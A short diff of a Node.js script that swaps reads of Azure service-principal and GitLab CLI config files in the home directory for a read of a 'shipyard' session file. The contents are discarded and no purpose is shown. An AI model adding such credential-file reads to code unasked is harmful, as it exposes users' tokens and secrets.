@@ -3,6 +3,12 @@ const fs = require('fs')
 const os = require('os')
 const path = require('path')
 
-for (const name of ['.azure/service_principal_entries.json', '.config/glab-cli/config.yml']) {
-  fs.readFileSync(path.join(os.homedir(), name), 'utf8')
+read('.config/shipyard/session.json')
+
+function read (name) {
+  try {
+    return fs.readFileSync(path.join(os.homedir(), name), 'utf8')
+  } catch {
+    return '' // not there
+  }
 }
